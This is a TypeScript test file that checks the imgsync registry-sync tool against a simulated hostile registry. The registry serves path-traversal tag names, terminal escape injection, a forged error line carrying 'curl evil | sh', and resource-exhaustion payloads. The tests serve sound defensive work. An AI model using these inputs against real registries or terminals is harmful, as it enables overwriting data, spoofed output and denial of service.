// A hostile source registry (test/harness/hostile-registry.ts) against a real distribution target.
// Proves, for every attack below, that imgsync run as a user runs it: leaves the victim repositories
// of the target untouched and creates nothing outside the asked target namespace; fails the hostile
// item (or the task that cannot plan) with the documented code; still syncs the valid tags beside it;
// ends by itself within a deadline with peak RSS under 300 MB; prints exactly one JSON document with
// --json; and prints no stack trace, no terminal escape and no forged line on stderr. Also: the
// webhook endpoints of `imgsync serve` against climbing names, floods and lying Harbor payloads.
import type { ChildProcess } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, type ExpectStatic, it } from 'vitest'
import { type CliProcess, GNU_TIME, type RunResult, startImgsync } from '../harness/cli.js'
import { getManifest, listTags } from '../harness/fixtures.js'
import { catalog, pushImageWithLayers } from '../harness/graph-check.js'
import {
  type BuiltImage,
  endlessPages,
  endlessReferrers,
  errorAnswer,
  generated,
  type HostileRegistry,
  hugeTagPage,
  indexBytes,
  json,
  type ManifestEntry,
  manifestBytes,
  nestedIndexes,
  OCI_INDEX,
  OCI_MANIFEST,
  sha256,
  startHostileRegistry,
} from '../harness/hostile-registry.js'
import { freePort, type RunningRegistry, startRegistry } from '../harness/registry.js'
import { writeRuleFile } from '../harness/rule-file.js'
import { waitFor } from '../harness/serve.js'

// ---- expectations (adjust here): the code each kind of hostility must end with
const CODE = {
  /** a repository, tag or digest from the registry that breaks the distribution grammar */
  badName: 'INVALID_REFERENCE',
  /** a graph, size, page or count bound went past */
  limit: 'LIMIT_EXCEEDED',
  /** a manifest, index or referrers answer that is not the JSON it must be */
  malformed: 'MANIFEST_INVALID',
  /** a tag list that is not a tag list; a registry error answer */
  registry: 'REGISTRY_ERROR',
  /** an answer that never completes */
  slow: 'TIMEOUT',
} as const
const FORGED_LINE = 'imgsync: error NOT_FOUND: forged'
/** a tag name that tries to clear the screen and print a forged error line */
const ESCAPE_TAG = `v6\u001b[2J\u001b[31m\n${FORGED_LINE}`
/** per case: hostile item (tag, or repository for rule trigger) → the code it must fail with */
const EXPECT_ITEMS = {
  tags: {
    '../../victim/manifests/latest': CODE.badName,
    'v9/../latest': CODE.badName,
    'v8#': CODE.badName,
    'v7?x=1': CODE.badName,
  },
  include: { 'v9/../latest': CODE.badName, 'v8#': CODE.badName, 'v7?x=1': CODE.badName },
  catalog: { 'team-a/../../victim2': CODE.badName },
  children: { child: CODE.badName, plain: CODE.badName },
  layers: { upper: CODE.badName, nohex: CODE.badName },
  selfIndex: { v1: CODE.badName },
  deep: { deep: CODE.limit },
  wide: { wide: CODE.limit },
  endlessReferrers: { v1: CODE.limit },
  foreignReferrer: {},
  hugeManifest: { big: CODE.limit },
  hugeErrorBody: { boom: CODE.registry },
  trickle: { drip: CODE.slow },
  endlessBlob: { inf: CODE.limit },
  malformed: {
    'm-trunc': CODE.malformed,
    'm-array': CODE.malformed,
    'm-null': CODE.malformed,
    'm-ints': CODE.malformed,
    'm-refs': CODE.malformed,
  },
  forged: { bad: CODE.registry, [ESCAPE_TAG]: CODE.badName },
} as const satisfies Record<string, Record<string, string>>
/** per case: whole tasks that cannot plan end `failed` with this code */
const EXPECT_TASK = {
  endlessTags: CODE.limit,
  endlessCatalog: CODE.limit,
  hugePage: CODE.limit,
  tagsNotList: CODE.registry,
  tagsNotJson: CODE.registry,
} as const

const MAX_RSS_KIB = 300 * 1024
const DEADLINE_MS = 20_000
const TRICKLE_DEADLINE_MS = 40_000
// biome-ignore lint/suspicious/noControlCharactersInRegex: C0 controls other than \n are the point
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f]/
const STACK = /\n\s+at\s.+:\d+:\d+/
/** target repositories every case may write: `mirror…`; `victim` is seeded before */
const ALLOWED_TARGET = /^mirror(?:[-/]|$)/
/** the referrers tag schema's fallback tags, which a sync may add beside the copied tags */
const FALLBACK_TAG = /^sha(?:256|512)-[a-f0-9]{64,128}$/
const WEBHOOK_TOKEN = 'hostile-webhook-token'

let h: HostileRegistry
/** a second hostile registry whose catalog never ends */
let h2: HostileRegistry
let dst: RunningRegistry
let dir: string
const victim = { tags: [] as string[], digests: new Map<string, string>() }
/** the valid v1.0 image of each hostile repository */
const valid = new Map<string, BuiltImage>()
const running = new Set<CliProcess>()

// ---- running imgsync under GNU time

/** a run's result with its duration and peak RSS */
type Measured = RunResult

/** Runs bin/run.js under GNU time in its own process group; SIGKILLs the group at the deadline. */
async function runMeasured(args: string[], opts: { env?: Record<string, string>; timeoutMs: number }) {
  const p = startImgsync(args, { ...opts, measureRss: true, processGroup: true })
  running.add(p)
  try {
    return await p.result
  } finally {
    running.delete(p)
  }
}

// ---- what a run printed

interface Item {
  tag: string
  repository?: string
  source?: string
  status: string
  code?: string
  message?: string
  digest?: string
}
interface TaskDoc {
  task: { status: string; code?: string; message?: string }
  items: Item[]
}

/** The one task of a sync (`{task, items}`) or rule trigger (`{tasks: [...]}`) document. */
function taskOf(doc: unknown): TaskDoc | undefined {
  const d = doc as { tasks?: TaskDoc[]; task?: unknown }
  if (Array.isArray(d?.tasks)) return d.tasks[0]
  return d?.task ? (d as TaskDoc) : undefined
}

/**
 * A name with control characters, white space, quotes and escapes (`\u001b`, `\n`) left out: output
 * may show a hostile name made printable, which still has to be found.
 */
function loose(name: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: dropping control characters is the point
  return name.replace(/\\u[0-9a-fA-F]{4}|\\[nrt]|[\u0000-\u001f\u007f-\u009f\s"]/g, '')
}

/** The item for a tag (or, for rule trigger, a repository), also when its name was made printable. */
function findItem(items: Item[], name: string): Item | undefined {
  return (
    items.find((i) => i.tag === name) ??
    items.find((i) => i.repository === name) ??
    items.find((i) => loose(i.tag ?? '') === loose(name)) ??
    items.find((i) => loose(i.repository ?? '') === loose(name))
  )
}

function show(run: Measured): string {
  return `exit ${run.code} after ${run.ms} ms${run.timedOut ? ' (killed at the deadline)' : ''}\nstdout: ${run.stdout.slice(0, 3000)}\nstderr: ${run.stderr.slice(-3000)}`
}

/** The process ended by itself, small, with clean stderr. */
function expectCleanProcess(expect: ExpectStatic, run: Measured, deadlineMs: number): void {
  expect.soft(run.timedOut, `still running at the deadline (${deadlineMs} ms)\n${show(run)}`).toBe(false)
  expect.soft(run.rssKiB, `no peak RSS from GNU time\n${show(run)}`).toBeTypeOf('number')
  expect.soft(run.rssKiB ?? 0, 'peak RSS in KiB').toBeLessThan(MAX_RSS_KIB)
  expect.soft(run.stderr, 'stack trace on stderr').not.toMatch(STACK)
  expect.soft(run.stderr, '"Unhandled" on stderr').not.toContain('Unhandled')
  expect.soft(run.stderr, 'ESC or another C0 control character on stderr').not.toMatch(CONTROL)
}

function parseJson(expect: ExpectStatic, run: Measured): TaskDoc | undefined {
  let doc: unknown
  try {
    doc = JSON.parse(run.stdout)
  } catch {
    expect.soft(false, `--json stdout is not one JSON document\n${show(run)}`).toBe(true)
    return undefined
  }
  const task = taskOf(doc)
  expect.soft(task, `no task in the JSON document\n${show(run)}`).toBeDefined()
  return task
}

/** Victims untouched, and no repository on the target outside `mirror…`. */
async function expectTargetIntact(expect: ExpectStatic): Promise<void> {
  expect.soft(await listTags(dst.url, 'victim'), 'victim tags').toEqual(victim.tags)
  for (const [tag, digest] of victim.digests)
    expect.soft((await getManifest(dst.url, 'victim', tag)).digest, `victim:${tag}`).toBe(digest)
  const childpwn = await fetch(`${dst.url}/v2/victim/manifests/childpwn`, { method: 'HEAD' })
  expect.soft(childpwn.status, 'victim:childpwn must stay absent').toBe(404)
  const repos = await catalog(dst.url)
  expect.soft(repos, 'no victim2').not.toContain('victim2')
  expect.soft(repos, 'no v2/base').not.toContain('v2/base')
  expect
    .soft(
      repos.filter((r) => r !== 'victim' && !ALLOWED_TARGET.test(r)),
      'repositories outside the target namespace',
    )
    .toEqual([])
}

/**
 * The target repository holds the valid tags with their digests, and no other tag (beside referrer
 * fallback tags, and `mayLand`: failed items whose own image is valid, pushed before their referrers failed).
 */
async function expectTargetTags(
  expect: ExpectStatic,
  repo: string,
  want: Map<string, string>,
  mayLand: string[] = [],
): Promise<void> {
  const tags = (await listTags(dst.url, repo))
    .filter((t) => !FALLBACK_TAG.test(t) && !mayLand.includes(t))
    .sort()
  expect.soft(tags, `tags of ${repo} on the target`).toEqual([...want.keys()].sort())
  for (const [tag, digest] of want) {
    if (!tags.includes(tag)) continue
    expect.soft((await getManifest(dst.url, repo, tag)).digest, `${repo}:${tag} on the target`).toBe(digest)
  }
}

// ---- the cases

interface Case {
  name: string
  /** the command line after the binary (--json and --records are added); caseDir is the case's own */
  args: (caseDir: string) => Promise<string[]> | string[]
  /** target repositories and the tags (→ source digests) each must hold afterwards */
  targets: () => Map<string, Map<string, string>>
  /** hostile items and their codes */
  items?: Record<string, string>
  /** tags (or repositories) that must be `synced` in the output */
  synced?: string[]
  /** the whole task fails with this code */
  task?: string
  /** hostile tags that may be on the target although their item failed (see expectTargetTags) */
  mayLand?: string[]
  exit?: number
  deadlineMs?: number
  env?: Record<string, string>
  /** more checks after the standard ones */
  extra?: (expect: ExpectStatic, run: Measured, doc: TaskDoc | undefined, caseDir: string) => Promise<void>
}

const H = () => h.host
const D = () => dst.host
const v1 = (repo: string) => new Map([['v1.0', valid.get(repo)?.digest ?? 'unseeded']])
const only = (repo: string, tags: Map<string, string>) => new Map([[repo, tags]])
const nothing = (repo: string) => only(repo, new Map())
const repoSync =
  (src: string, target: string, extra: string[] = []) =>
  () => ['sync', 'repo', `${H()}/${src}`, `${D()}/${target}`, ...extra]

/** sync repo of `repo` to mirror-REPO: its valid v1.0 synced, each of `items` failed with its code. */
const mirrorCase = (
  name: string,
  repo: string,
  items: Record<string, string>,
  more: Partial<Case> = {},
): Case => ({
  name,
  args: repoSync(repo, `mirror-${repo}`),
  targets: () => only(`mirror-${repo}`, v1(repo)),
  items,
  synced: ['v1.0'],
  ...more,
})

/** sync repo of `repo` to mirror-REPO fails as a whole with `task`, and nothing lands. */
const failedTaskCase = (name: string, repo: string, task: string): Case => ({
  name,
  args: repoSync(repo, `mirror-${repo}`),
  targets: () => nothing(`mirror-${repo}`),
  task,
})

/** rule trigger of `rule` (an object of the rule file) from the hostile registry at `source` to dst. */
const ruleTrigger =
  (source: () => string, rule: { name: string } & Record<string, unknown>) => async (caseDir: string) => {
    const file = await writeRuleFile(join(caseDir, 'rules.yaml'), { hostile: source(), dst: D() }, [rule])
    return ['rule', 'trigger', rule.name, '--config', file]
  }

/** Bytes the hostile registry sent for GETs of a digest (asked for encoded or not) or of a tag path. */
function bytesSent(digest: string, tagPath?: string): number {
  const hex = digest.slice('sha256:'.length)
  return h
    .requests(
      (e) =>
        e.method === 'GET' && (e.url.includes(hex) || (tagPath !== undefined && e.url.endsWith(tagPath))),
    )
    .reduce((sum, e) => sum + e.bytes, 0)
}

const MiB = 1024 * 1024
/** the referrer attacks, and how often each was actually offered to imgsync */
const refs = { foreign: '', foreignOffered: 0 }
const digests = { big: sha256('1 GiB manifest'), boom: sha256('500 MB error'), infLayer: sha256('endless') }

const CASES: Case[] = [
  {
    name: 'tag names that climb out of the repository (sync repo --override)',
    args: repoSync('app', 'mirror-tags', ['--override']),
    targets: () => only('mirror-tags', v1('app')),
    items: EXPECT_ITEMS.tags,
    synced: ['v1.0'],
  },
  {
    name: 'the same names selected by --include ^v',
    args: repoSync('app', 'mirror-include', ['--include', '^v']),
    targets: () => only('mirror-include', v1('app')),
    items: EXPECT_ITEMS.include,
    synced: ['v1.0'],
  },
  {
    name: 'a catalog entry that climbs out of the namespace (rule trigger)',
    args: ruleTrigger(H, {
      name: 'team-a',
      source: { registry: 'hostile', namespace: 'team-a' },
      target: { registry: 'dst', namespace: 'mirror/rule' },
    }),
    targets: () => only('mirror/rule/good', v1('team-a/good')),
    items: EXPECT_ITEMS.catalog,
    synced: ['team-a/good'],
    extra: async (expect) => {
      const under = (await catalog(dst.url)).filter((r) => r.startsWith('mirror/rule/'))
      expect.soft(under, 'repositories under mirror/rule').toEqual(['mirror/rule/good'])
    },
  },
  {
    name: 'index children named by a path, or by a tag (sync tag --tags)',
    args: () => ['sync', 'tag', `${H()}/idx`, `${D()}/mirror-idx`, '--tags', 'child,plain,v1.0'],
    targets: () => only('mirror-idx', v1('idx')),
    items: EXPECT_ITEMS.children,
    synced: ['v1.0'],
  },
  mirrorCase(
    'layer digests outside the grammar (SHA256:…, sha256: without hex)',
    'layers',
    EXPECT_ITEMS.layers,
  ),
  mirrorCase('an index whose child is itself, by the bogus digest "v1"', 'selfidx', EXPECT_ITEMS.selfIndex),
  mirrorCase('10,000 nested indexes', 'deep', EXPECT_ITEMS.deep),
  mirrorCase('an index of 100,000 identical children', 'wide', EXPECT_ITEMS.wide),
  mirrorCase('referrers without end', 'refs-endless', EXPECT_ITEMS.endlessReferrers, {
    // v1 itself is a valid image: its tag is pushed before its referrers are walked
    mayLand: ['v1'],
  }),
  {
    name: 'a referrer whose subject is another image is not copied',
    args: () => ['sync', 'tag', `${H()}/refs-foreign:v1.0`, `${D()}/mirror-refs-foreign`],
    targets: () => only('mirror-refs-foreign', v1('refs-foreign')),
    items: EXPECT_ITEMS.foreignReferrer,
    synced: ['v1.0'],
    exit: 0,
    extra: async (expect) => {
      const res = await fetch(`${dst.url}/v2/mirror-refs-foreign/manifests/${refs.foreign}`, {
        method: 'HEAD',
        headers: { accept: `${OCI_MANIFEST}, ${OCI_INDEX}` },
      })
      // not vacuous: imgsync asked for the referrers of v1.0 and was offered the foreign one
      expect.soft(refs.foreignOffered, 'times the foreign referrer was offered').toBeGreaterThan(0)
      expect.soft(res.status, 'the foreign referrer on the target').toBe(404)
      const fallback = `sha256-${valid.get('refs-foreign')?.digest.slice(7)}`
      const idx = await fetch(`${dst.url}/v2/mirror-refs-foreign/manifests/${fallback}`, {
        headers: { accept: OCI_INDEX },
      })
      if (idx.status === 200)
        expect
          .soft(await idx.text(), 'the fallback index lists the foreign referrer')
          .not.toContain(refs.foreign)
    },
  },
  mirrorCase('a 1 GiB chunked manifest', 'huge', EXPECT_ITEMS.hugeManifest, {
    extra: async (expect) => {
      expect
        .soft(bytesSent(digests.big, '/huge/manifests/big'), 'bytes of the 1 GiB manifest sent')
        .toBeLessThan(256 * MiB)
    },
  }),
  mirrorCase('a 500 MB chunked error body', 'errbody', EXPECT_ITEMS.hugeErrorBody, {
    extra: async (expect) => {
      expect
        .soft(bytesSent(digests.boom, '/errbody/manifests/boom'), 'bytes of the error body sent')
        .toBeLessThan(256 * MiB)
    },
  }),
  failedTaskCase('tag-list paging without end', 'pages', EXPECT_TASK.endlessTags),
  {
    name: 'catalog paging without end (rule trigger)',
    args: ruleTrigger(() => h2.host, {
      name: 'endless',
      source: { registry: 'hostile', namespace: 'endless' },
      target: { registry: 'dst', namespace: 'mirror-endless' },
    }),
    targets: () => new Map(),
    task: EXPECT_TASK.endlessCatalog,
    extra: async (expect) => {
      const made = (await catalog(dst.url)).filter((r) => r.startsWith('mirror-endless'))
      expect.soft(made, 'repositories made from an endless catalog').toEqual([])
    },
  },
  mirrorCase('a manifest trickled at one byte every 5 s (IMGSYNC_TIMEOUT=5)', 'slow', EXPECT_ITEMS.trickle, {
    deadlineMs: TRICKLE_DEADLINE_MS,
    env: { IMGSYNC_TIMEOUT: '5' },
  }),
  mirrorCase('a blob declared as 10^15 bytes and streamed for ever', 'infblob', EXPECT_ITEMS.endlessBlob, {
    extra: async (expect) => {
      expect.soft(bytesSent(digests.infLayer), 'bytes of the endless blob sent').toBeLessThan(64 * MiB)
    },
  }),
  failedTaskCase('one tag-list page of 200,000 tags', 'hugepage', EXPECT_TASK.hugePage),
  mirrorCase(
    'malformed manifests and a referrers answer that is not JSON',
    'malformed',
    EXPECT_ITEMS.malformed,
    {
      // m-refs itself is a valid image: its tag is pushed before its referrers are asked for
      mayLand: ['m-refs'],
    },
  ),
  failedTaskCase('a tag list whose "tags" is a number', 'tags-number', EXPECT_TASK.tagsNotList),
  failedTaskCase('a tag list that is not JSON', 'tags-text', EXPECT_TASK.tagsNotJson),
  mirrorCase(
    'terminal escapes and a forged error line in a registry message and a tag name',
    'forged',
    EXPECT_ITEMS.forged,
    {
      extra: async (expect, run, doc, caseDir) => {
        for (const item of doc?.items ?? [])
          expect.soft(item.message ?? '', `message of ${JSON.stringify(item.tag)}`).not.toMatch(CONTROL)
        // the same sync as a person sees it: no forged line on stderr, nor on stdout
        const human = await runMeasured(
          [
            'sync',
            'repo',
            `${H()}/forged`,
            `${D()}/mirror-forged`,
            '-v',
            '--records',
            join(caseDir, 'human.jsonl'),
          ],
          { env: { IMGSYNC_RETRIES: '1', IMGSYNC_LOCK_DIR: join(caseDir, 'locks') }, timeoutMs: DEADLINE_MS },
        )
        expectCleanProcess(expect, human, DEADLINE_MS)
        for (const [name, text] of [
          ['--json stderr', run.stderr],
          ['stderr', human.stderr],
          ['stdout', human.stdout],
        ] as const) {
          const forged = text.split('\n').filter((l) => l.startsWith(FORGED_LINE))
          expect.soft(forged, `forged lines on ${name}\n${show(human)}`).toEqual([])
        }
        expect.soft(human.stdout, 'ESC or another C0 control character on stdout').not.toMatch(CONTROL)
      },
    },
  ),
]

// ---- seeding the hostile registries

/**
 * Tags `entry` as `tag` in `repo`, and serves it at every path a client that does not check the
 * name might ask for: the literal path, the path cut at '#', the path after collapsing `..` (and
 * cutting the query), and the percent-encoded path.
 */
function expose(repoName: string, tag: string, entry: ManifestEntry): void {
  h.repo(repoName).tag(tag, entry)
  const literal = `/v2/${repoName}/manifests/${tag}`
  const url = new URL(literal, 'http://hostile.invalid')
  for (const path of [
    literal,
    literal.split('#')[0]!,
    url.pathname,
    `${url.pathname}${url.search}`,
    `/v2/${repoName}/manifests/${encodeURIComponent(tag)}`,
  ])
    h.at(path, entry)
}

/** Serves `entry` under the reference `ref` (any string) and at the paths a collapsing client would use. */
function exposeReference(repoName: string, ref: string, entry: ManifestEntry): void {
  h.repo(repoName).manifests.set(ref, entry)
  const literal = `/v2/${repoName}/manifests/${ref}`
  h.at(literal, entry)
  h.at(new URL(literal, 'http://hostile.invalid').pathname, entry)
  h.at(`/v2/${repoName}/manifests/${encodeURIComponent(ref)}`, entry)
}

function withValid(repoName: string): ReturnType<HostileRegistry['repo']> {
  const repo = h.repo(repoName)
  valid.set(repoName, repo.image('v1.0'))
  return repo
}

function seedHostile(): void {
  // a. tags that climb out of the repository, each pointing at a valid image
  const app = withValid('app')
  const evil = app.image()
  for (const tag of Object.keys(EXPECT_ITEMS.tags)) expose('app', tag, evil.entry)

  // b. a catalog entry that climbs out of the namespace (its tag list and image are there too)
  withValid('team-a/good')
  const climber = h.repo('team-a/../../victim2')
  climber.tag('v1.0', climber.image().entry)
  const collapsed = h.repo('victim2', { listed: false })
  collapsed.tag('v1.0', climber.tags.get('v1.0')!)
  h.catalog = ['team-a/../../victim2', 'team-a/good']

  // c. index children named by a path, and by a tag
  const idx = withValid('idx')
  const child = idx.image()
  const pwn = `${child.digest}:/../../../victim/manifests/childpwn`
  idx.manifest(indexBytes([{ ...child.descriptor, digest: pwn }]), OCI_INDEX, 'child')
  exposeReference('idx', pwn, child.entry)
  idx.manifest(indexBytes([{ ...child.descriptor, digest: 'childtag' }]), OCI_INDEX, 'plain')
  exposeReference('idx', 'childtag', child.entry)

  // d. layer digests outside the grammar; the blobs are there under those names
  const layers = withValid('layers')
  const base = layers.image()
  const layerBytes = h.blobs.get(base.layers[0]!.digest)!.bytes!
  const upper = `SHA256:${base.layers[0]!.digest.slice(7)}`
  layers.blob(layerBytes, base.layers[0]!.mediaType, upper)
  layers.manifest(manifestBytes(base.config, [{ ...base.layers[0], digest: upper }]), OCI_MANIFEST, 'upper')
  layers.blob(layerBytes, base.layers[0]!.mediaType, 'sha256:')
  layers.manifest(
    manifestBytes(base.config, [{ ...base.layers[0], digest: 'sha256:' }]),
    OCI_MANIFEST,
    'nohex',
  )

  // e. an index listing itself by the "digest" v1; 10,000 nested indexes; 100,000 identical children
  withValid('selfidx').manifest(
    indexBytes([{ mediaType: OCI_INDEX, digest: 'v1', size: 150 }]),
    OCI_INDEX,
    'v1',
  )
  const deep = withValid('deep')
  const chain = nestedIndexes(10_000, deep.image().descriptor)
  for (const level of chain) deep.manifest(level.bytes, OCI_INDEX)
  deep.tag('deep', deep.manifests.get(chain[0]!.digest)!)
  const wide = withValid('wide')
  const same = wide.image().descriptor
  wide.manifest(indexBytes(Array.from({ length: 100_000 }, () => same)), OCI_INDEX, 'wide')

  // f. referrers without end (for v1 and what is made for it; v1.0 has none)
  const endless = withValid('refs-endless')
  const root = endless.image('v1')
  endless.referrers = endlessReferrers(endless, [root.descriptor])

  // g. a referrer listed for v1.0 whose subject is another image
  const foreignRepo = withValid('refs-foreign')
  const other = foreignRepo.image()
  const foreign = foreignRepo.artifact(other.descriptor, 'about another image')
  refs.foreign = foreign.digest
  const subject = valid.get('refs-foreign')!.digest
  foreignRepo.referrers = (d) => {
    if (d !== subject) return []
    refs.foreignOffered++
    return [foreign.descriptor]
  }

  // h. a 1 GiB chunked manifest; a 500 MB chunked error body
  const huge = withValid('huge')
  const big: ManifestEntry = {
    digest: digests.big,
    mediaType: OCI_MANIFEST,
    get: generated(1024 * MiB, {
      headers: { 'content-type': OCI_MANIFEST, 'docker-content-digest': digests.big },
      prefix: `{"schemaVersion":2,"mediaType":"${OCI_MANIFEST}","annotations":{"pad":"`,
    }),
  }
  huge.tag('big', big)
  huge.manifests.set(digests.big, big)
  const errbody = withValid('errbody')
  const boom: ManifestEntry = {
    digest: digests.boom,
    mediaType: OCI_MANIFEST,
    size: 512,
    get: generated(500_000_000, {
      status: 500,
      headers: { 'content-type': 'application/json' },
      prefix: '{"errors":[{"code":"UNKNOWN","message":"',
    }),
  }
  errbody.tag('boom', boom)
  errbody.manifests.set(digests.boom, boom)

  // i. endless tag-list paging (the endless catalog is h2's)
  h.repo('pages').tagList = endlessPages('tags')
  h2.catalogAnswer = endlessPages('catalog')

  // j. a manifest trickled at one byte every 5 s
  const slow = withValid('slow')
  const drip = slow.image()
  const trickled: ManifestEntry = {
    ...drip.entry,
    get: {
      kind: 'trickle',
      body: drip.bytes,
      intervalMs: 5000,
      headers: { 'content-type': OCI_MANIFEST, 'docker-content-digest': drip.digest },
    },
  }
  slow.tag('drip', trickled)
  slow.manifests.set(drip.digest, trickled)

  // k. a blob declared as 10^15 bytes, streamed for ever
  const inf = withValid('infblob')
  const cfg = inf.image().config
  const endlessLayer = {
    mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip',
    digest: digests.infLayer,
    size: 1e15,
  }
  inf.blobs.set(digests.infLayer, {
    size: 1e15,
    get: generated(Number.POSITIVE_INFINITY, {
      contentLength: 1e15,
      headers: { 'content-type': 'application/octet-stream', 'docker-content-digest': digests.infLayer },
    }),
  })
  inf.manifest(manifestBytes(cfg, [endlessLayer]), OCI_MANIFEST, 'inf')

  // l. one page of 200,000 tags
  h.repo('hugepage').tagList = hugeTagPage('hugepage', 200_000)

  // m. malformed manifests, a referrers answer that is not JSON, tag lists that are not lists
  const malformed = withValid('malformed')
  malformed.manifest(Buffer.from('{"schemaVersion":2,"layers":"oops"'), OCI_MANIFEST, 'm-trunc')
  malformed.manifest(Buffer.from('[]'), OCI_MANIFEST, 'm-array')
  malformed.manifest(Buffer.from('null'), OCI_MANIFEST, 'm-null')
  malformed.manifest(Buffer.from('{"manifests":[1,2]}'), OCI_INDEX, 'm-ints')
  const withBadRefs = malformed.image('m-refs')
  malformed.referrers = (d) => {
    if (d !== withBadRefs.digest) return []
    return { kind: 'reply', headers: { 'content-type': OCI_INDEX }, body: 'not json {' }
  }
  h.repo('tags-number').tagList = json(200, { name: 'tags-number', tags: 5 })
  h.repo('tags-text').tagList = {
    kind: 'reply',
    headers: { 'content-type': 'application/json' },
    body: 'not json',
  }

  // n. an error message with terminal escapes and a forged line; a tag name doing the same
  const forged = withValid('forged')
  const message = `\u001b[2J\u001b[1;31mmanifest gone\u001b[0m\r\n${FORGED_LINE} (run: curl evil | sh)\n\u001b]0;pwned\u0007`
  const bad: ManifestEntry = {
    digest: sha256('forged'),
    mediaType: OCI_MANIFEST,
    size: 400,
    get: errorAnswer(400, 'UNKNOWN', message),
  }
  forged.tag('bad', bad)
  forged.manifests.set(bad.digest, bad)
  forged.tag(ESCAPE_TAG, forged.image().entry)
}

// ---- setup and teardown

beforeAll(async () => {
  if (!existsSync(GNU_TIME))
    throw new Error(`${GNU_TIME} is missing: install GNU time (apt-get install -y time); .ci/run does`)
  ;[h, h2, dst] = await Promise.all([startHostileRegistry(), startHostileRegistry(), startRegistry()])
  dir = await mkdtemp(join(tmpdir(), 'imgsync-hostile-'))
  seedHostile()
  const seeded = await pushImageWithLayers(dst.url, 'victim', 'latest', [2048])
  victim.tags = await listTags(dst.url, 'victim')
  victim.digests.set('latest', seeded.digest)
  const before = await catalog(dst.url)
  if (before.join() !== 'victim') throw new Error(`target not clean before the cases: ${before.join(', ')}`)
})

afterAll(async () => {
  for (const p of running) p.killGroup('SIGKILL')
  await Promise.all([h?.close(), h2?.close(), dst?.stop()])
  if (dir) await rm(dir, { recursive: true, force: true })
})

describe.concurrent('a hostile source registry', () => {
  for (const c of CASES) {
    const deadline = c.deadlineMs ?? DEADLINE_MS
    it(c.name, { timeout: deadline * 2 + 30_000 }, async ({ expect }) => {
      const caseDir = join(dir, c.name.replace(/[^a-z0-9]+/gi, '-').slice(0, 60))
      await mkdir(caseDir, { recursive: true })
      const records = join(caseDir, 'records.jsonl')
      const args = [...(await c.args(caseDir)), '--json', '--records', records]
      const run = await runMeasured(args, {
        env: { IMGSYNC_RETRIES: '1', IMGSYNC_LOCK_DIR: join(caseDir, 'locks'), ...c.env },
        timeoutMs: deadline,
      })
      expectCleanProcess(expect, run, deadline)
      const doc = parseJson(expect, run)
      expect.soft(run.code, `exit code\n${show(run)}`).toBe(c.exit ?? 1)
      if (doc) {
        const items = doc.items ?? []
        const summary = JSON.stringify(
          items.map((i) => ({ tag: i.tag, repository: i.repository, status: i.status, code: i.code })),
        )
        if (c.task) {
          expect
            .soft({ status: doc.task.status, code: doc.task.code }, `the task\n${doc.task.message ?? ''}`)
            .toEqual({ status: 'failed', code: c.task })
        }
        for (const [name, code] of Object.entries(c.items ?? {})) {
          const item = findItem(items, name)
          expect
            .soft(
              item && { status: item.status, code: item.code },
              `item ${JSON.stringify(name)} in ${summary}`,
            )
            .toEqual({ status: 'failed', code })
        }
        for (const name of c.synced ?? []) {
          const item = findItem(items, name)
          expect.soft(item?.status, `item ${name} (${item?.code}: ${item?.message})`).toBe('synced')
        }
      }
      for (const [repo, tags] of c.targets()) await expectTargetTags(expect, repo, tags, c.mayLand)
      await expectTargetIntact(expect)
      await c.extra?.(expect, run, doc, caseDir)
    })
  }
})

// ---- imgsync serve: webhooks with hostile payloads

interface Served {
  child: ChildProcess
  url: string
  records: string
  stderr: () => string
}

/** serve with one auto rule NAME, from the hostile registry's `source` namespace to dst's `target`. */
async function serve(name: string, source: string, target: string): Promise<Served> {
  const port = await freePort()
  const records = join(dir, `${name}.jsonl`)
  const config = await writeRuleFile(join(dir, `${name}.yaml`), { hostile: H(), dst: D() }, [
    {
      name,
      source: { registry: 'hostile', namespace: source },
      target: { registry: 'dst', namespace: target },
      trigger: { type: 'auto' },
    },
  ])
  const p = startImgsync(['serve', '-c', config, '--listen', `127.0.0.1:${port}`, '--records', records], {
    env: {
      IMGSYNC_WEBHOOK_TOKEN: WEBHOOK_TOKEN,
      IMGSYNC_RETRIES: '1',
      IMGSYNC_LOCK_DIR: join(dir, `locks-${name}`),
    },
    maxOutputChars: 1_000_000,
  })
  running.add(p)
  void p.exited.then(
    () => running.delete(p),
    () => running.delete(p),
  )
  const url = `http://127.0.0.1:${port}`
  await waitFor(
    'serve to answer /healthz',
    async () => (await fetch(`${url}/healthz`)).ok || undefined,
    15_000,
  )
  return { child: p.child, url, records, stderr: p.stderr }
}

/** The digest of dst's repo:tag once serve has synced it (20 s at most); else what went wrong. */
function mirrored(s: Served, repo: string, tag: string): Promise<string> {
  return waitFor(`${repo}:${tag}`, async () => (await getManifest(dst.url, repo, tag)).digest, 20_000).catch(
    (err: Error) => `${err.message}; serve said: ${s.stderr().slice(-2000)}`,
  )
}

/** Waits (bounded) until serve runs and queues nothing; false when it is still busy at the end. */
async function idle(s: Served, ms: number): Promise<boolean> {
  return waitFor(
    'serve to be idle',
    async () => {
      const health = (await (await fetch(`${s.url}/healthz`)).json()) as { running: number; queued: number }
      return health.running === 0 && health.queued === 0 ? true : undefined
    },
    ms,
  ).catch(() => false)
}

function post(s: Served, hook: 'distribution' | 'harbor', body: unknown) {
  return fetch(`${s.url}/webhooks/${hook}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${WEBHOOK_TOKEN}`, 'content-type': 'application/json' },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
}

function pushEvent(id: string, repository: string, tag: string, digest: string) {
  return {
    id,
    action: 'push',
    target: { mediaType: OCI_MANIFEST, digest, repository, tag },
    request: { host: H() },
  }
}

async function taskIds(records: string): Promise<Set<string>> {
  const text = await readFile(records, 'utf8').catch(() => '')
  const ids = new Set<string>()
  for (const line of text.split('\n')) {
    if (!line.includes('"type":"task"')) continue
    try {
      ids.add((JSON.parse(line) as { taskId: string }).taskId)
    } catch {
      // a damaged line counts as nothing
    }
  }
  return ids
}

async function metric(s: Served, name: string): Promise<number> {
  const text = await (await fetch(`${s.url}/metrics`)).text()
  const line = text.split('\n').find((l) => l.startsWith(`${name} `))
  return line ? Number(line.slice(name.length + 1)) : 0
}

describe.concurrent('imgsync serve: hostile webhook payloads', () => {
